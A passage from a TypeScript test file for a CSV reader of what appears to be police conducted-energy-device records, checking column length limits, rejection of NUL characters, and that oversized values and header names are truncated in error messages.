    expect(file.errors).toEqual([{ line: 2, column: 'CED Fired Cartridge Number', message: `"${'7'.repeat(100)}…" (10,485,760 characters) is too long: this column holds at most 30 characters` }]);
  });

  it.each([
    ['SingleCrewed', 100],
    ['Borough', 100],
    ['CED Device Serial No', 30],
    ['SubjectNatureOfInjury', 10_000],
  ] as const)('holds %s to %i characters', async (column, limit) => {
    const fits = await readMetFile(utf8(csv([HEADER, withValue(firedRow, column, column === 'SingleCrewed' ? 'Yes' : 'x'.repeat(limit))])));
    expect(fits.errors).toEqual([]);
    const over = await readMetFile(utf8(csv([HEADER, withValue(firedRow, column, 'x'.repeat(limit + 1))])));
    expect(over.errors).toEqual([{ line: 2, column, message: expect.stringContaining(`is too long: this column holds at most ${limit} characters`) }]);
  });

  it('rejects a value with a NUL character by line and column (PostgreSQL cannot store it), and reads the rest', async () => {
    const file = await readMetFile(utf8(csv([HEADER, withValue(firedRow, 'Borough', 'Bex\u0000ley'), ROWS[1]!])));
    expect(file.rows.map((r) => r.line)).toEqual([3]);
    expect(file.errors).toEqual([{ line: 2, column: 'Borough', message: expect.stringContaining('NUL character (U+0000) at character 4 of this value') }]);
  });

  it('never echoes a huge value whole, in a message or in the values kept for a rejects file', async () => {
    const rejected = (await readMetFile(utf8(csv([HEADER, withValue(firedRow, 'SingleCrewed', 'Maybe'.repeat(TEN_MB / 5))])))).all.filter((r) => !r.ok);
    expect(rejected).toHaveLength(1);
    const r = rejected[0]!;
    if (r.ok) throw new Error('expected a rejected row');
    expect(r.errors[0]!.message.length).toBeLessThan(200);
    expect(Math.max(...r.values.map((v) => v.length))).toBeLessThanOrEqual(1000);
  });

  it('refuses a header with a huge column in a short message', async () => {
    const huge = await readMetFile(
      utf8(
        csv([
          [...HEADER, 'y'.repeat(TEN_MB)],
          [...ROWS[0]!, ''],
        ]),
      ),
    );
    expect(huge.problem).not.toBeNull();
    expect(huge.problem!.message.length).toBeLessThan(400);
    // A long unknown column name (under the length of a record) is quoted cut short.
    const long = await readMetFile(
      utf8(
        csv([
          [...HEADER, 'y'.repeat(5000)],
          [...ROWS[0]!, ''],
        ]),
      ),
    );
    expect(long.problem!.message).toContain(`"${'y'.repeat(100)}…" (5,000 characters)`);
    expect(long.problem!.message.length).toBeLessThan(400);
  });
});
